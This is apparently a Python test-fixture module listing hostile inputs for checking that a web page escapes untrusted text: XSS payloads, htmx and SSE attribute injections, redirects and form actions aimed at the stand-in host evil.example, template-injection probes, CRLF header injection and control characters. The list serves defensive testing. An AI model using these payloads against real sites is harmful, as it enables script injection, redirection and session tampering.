"""Texts that mean harm where somebody puts them into a page without a thought."""

HOSTILE = (
    "<script>window.hurt=1</script>",
    '"><script>window.hurt=1</script>',
    "'><img src=x onerror=window.hurt=1>",
    "</script><script>window.hurt=1</script>",
    "</title></head><body onload=window.hurt=1>",
    "</textarea></pre></bdi><svg onload=window.hurt=1>",
    "<svg><animate onbegin=window.hurt=1 attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.hurt=1</script>'>",
    "<a href=javascript:window.hurt=1>here</a>",
    "javascript:window.hurt=1//",
    "<form action=//evil.example><button id=cancel>",
    "<div hx-get='//evil.example' hx-trigger=load hx-on::load='window.hurt=1'>",
    "<div sse-connect='//evil.example' hx-ext=sse>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}</style>",
    "{{ 7 * 7 }} {% raw %} ${7*7} #{7*7} <%= 7*7 %>",
    "&lt;script&gt;window.hurt=1&lt;/script&gt;",
    "<!-- <img src=x onerror=window.hurt=1> -->",
    "line\nevent: cards\ndata: <img src=x onerror=window.hurt=1>\n\n",
    "\r\nset-cookie: taken=1\r\n",
    "\u202egnp.exe \u2066 \u200b \x00 \x1b[31m \x7f \ufeff",
    "A" * 5000,
)
"""For tasks' arguments, results, errors, and wherever else a text of anybody's is shown."""
